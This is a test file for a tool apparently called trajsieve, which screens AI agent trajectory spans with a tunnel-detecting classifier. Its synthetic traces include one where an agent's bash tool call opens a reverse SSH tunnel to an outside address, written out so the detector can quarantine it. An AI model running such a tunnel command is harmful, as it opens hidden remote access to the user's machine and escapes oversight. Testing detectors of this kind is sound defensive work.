import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, test } from 'vitest';
import { readRows } from '../../src/output/read-rows.ts';
import { packagePath } from '../../src/package-path.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { hashesOf, trajsieve } from '../support/trajsieve.ts';

const unsafe = 'ssh -fN -R 2222:localhost:22 me@203.0.113.9';
const names = [
  'trace_id',
  'span_id',
  'start_time_unix_nano',
  'gen_ai.input.messages',
  'gen_ai.output.messages',
] as const;
type Span = Readonly<Record<(typeof names)[number], string>>;

/** The three spans of a trace; with `command` the last one runs that. The later ones repeat the conversation. */
function trace(id: string, command = 'ls -la'): Span[] {
  const text = (role: string, content: string) => ({ role, parts: [{ type: 'text', content }] });
  const call = (at: number, run: string) => ({
    role: 'assistant',
    parts: [{ type: 'tool_call', id: `${id}${at}`, name: 'bash', arguments: { command: run } }],
    finish_reason: 'tool_calls',
  });
  const result = (at: number) => ({
    role: 'tool',
    parts: [{ type: 'tool_call_response', id: `${id}${at}`, response: 'done' }],
  });
  const said = [call(0, 'git status'), call(1, 'make test'), call(2, command)];
  return said.map((output, at) => {
    const before = said.slice(0, at).flatMap((one, number) => [one, result(number)]);
    return {
      trace_id: id,
      span_id: `${id}-${at}`,
      start_time_unix_nano: String(1_767_323_045_000_000_000n + BigInt(at)),
      'gen_ai.input.messages': JSON.stringify([text('user', 'Tidy up the project.'), ...before]),
      'gen_ai.output.messages': JSON.stringify([output]),
    };
  });
}

const lineOf = (span: Span) => `${JSON.stringify(span)}\n`;

function write(spans: readonly Span[], kind: string): string {
  const folder = temporaryFolder();
  if (kind === 'parquet') {
    const file = join(folder, 'spans.parquet');
    const columnData = names.map((name) => ({
      name,
      data: spans.map((span) => span[name]),
      type: 'STRING' as const,
    }));
    writeFileSync(file, new Uint8Array(parquetWriteBuffer({ columnData, rowGroupSize: 4 })));
    return file;
  }
  const file = join(folder, 'spans.jsonl');
  writeFileSync(file, spans.map(lineOf).join(''));
  return file;
}

function run(file: string, ...more: string[]) {
  const out = join(temporaryFolder(), 'out');
  const classifiers = ['--classifiers', packagePath('classifiers/tunnels')];
  const result = trajsieve(['run', file, '--out', out, '--json', '-q', ...classifiers, ...more]);
  const isDone = result.status === 0 || result.status === 4;
  return { out, result, rows: isDone ? JSON.parse(result.stdout).rows : undefined };
}

async function rowsOf(file: string, ...columns: string[]): Promise<Record<string, unknown>[]> {
  const rows = [];
  for await (const row of readRows(file, columns)) rows.push({ ...row });
  return rows;
}

const shard = 'train-00000-of-00001.parquet';
const shardsOf = (out: string) =>
  Object.fromEntries(
    Object.entries(hashesOf(out)).filter(([path]) => /^(data|quarantine|findings)/.test(path)),
  );

describe.each([['parquet'], ['jsonl']])('one span a row, as %s', { timeout: 300_000 }, (kind) => {
  const spans = ['a', 'b', 'c'].flatMap((id) => trace(id, id === 'b' ? unsafe : undefined));

  test('a verdict is of all spans of the trace, and the finding tells the span', async () => {
    const { out, result, rows } = run(write(spans, kind));
    expect(result.stderr).toBe('');
    expect(rows).toMatchObject({ in: 9, kept: 6, quarantined: 3, unreadable: 0 });
    const quarantined = await rowsOf(join(out, 'quarantine', shard), 'trajsieve_row', 'trajsieve_verdict');
    expect(quarantined.map((row) => [Number(row['trajsieve_row']), row['trajsieve_verdict']])).toEqual([
      [3, 'unsafe'],
      [4, 'unsafe'],
      [5, 'unsafe'],
    ]);
    const findings = await rowsOf(join(out, 'findings', shard), 'row', 'id');
    expect(findings.length).toBeGreaterThan(0);
    for (const { row, id } of findings) expect([Number(row), id]).toEqual([5, 'b']);
    expect(trajsieve(['verify', out]).status).toBe(0);
  });

  test('is the same without the prefilter, and when it is composed from a scan', () => {
    const file = write(spans, kind);
    const { out } = run(file);
    expect(shardsOf(run(file, '--no-prefilter').out)).toEqual(shardsOf(out));
    const folder = temporaryFolder();
    const [scan, composed] = [join(folder, 'scan'), join(folder, 'composed')];
    const classifiers = packagePath('classifiers/tunnels');
    expect(trajsieve(['scan', file, '--out', scan, '-q', '--classifiers', classifiers]).status).toBe(0);
    expect(trajsieve(['compose', scan, '--out', composed, '-q'])).toMatchObject({ status: 0, stderr: '' });
    expect(shardsOf(composed)).toEqual(shardsOf(out));
  });

  test('spans of a trace may come in any order among themselves', async () => {
    const [first, second, third] = trace('b', unsafe);
    const { out, rows } = run(write([...trace('a'), third!, first!, second!], kind));
    expect(rows).toMatchObject({ in: 6, kept: 3, quarantined: 3 });
    for (const { row } of await rowsOf(join(out, 'findings', shard), 'row')) expect(Number(row)).toBe(3);
  });

  test('traces that lie apart are an error that says what to sort by', () => {
    const [first, ...others] = trace('b', unsafe);
    const { out, result } = run(write([first!, ...trace('a'), ...others], kind));
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(
      /rows of trajectory "b" do not lie together.*row 4.*sort the file by trace_id/,
    );
    expect(Object.keys(hashesOf(out)).filter((path) => path.startsWith('ledger/'))).toEqual([]);
  });
});

test('a line that cannot be read costs the traces beside it, and no other', async () => {
  const file = join(temporaryFolder(), 'spans.jsonl');
  const lines = ['a', 'b', 'c', 'd'].flatMap((id) => trace(id).map(lineOf));
  lines.splice(4, 1, '{"trace_id": "b"\n');
  writeFileSync(file, lines.join(''));
  const { out, rows, result } = run(file);
  expect(result.status).toBe(4);
  // nobody knows which trace the line was of: that of a, before it, ended in the line before
  expect(rows).toMatchObject({ in: 12, kept: 9, quarantined: 2, unreadable: 1 });
  const quarantined = await rowsOf(join(out, 'quarantine', shard), 'trajsieve_row', 'trajsieve_verdict');
  expect(quarantined.map((row) => [Number(row['trajsieve_row']), row['trajsieve_verdict']])).toEqual([
    [3, 'error'],
    [5, 'error'],
  ]);
});
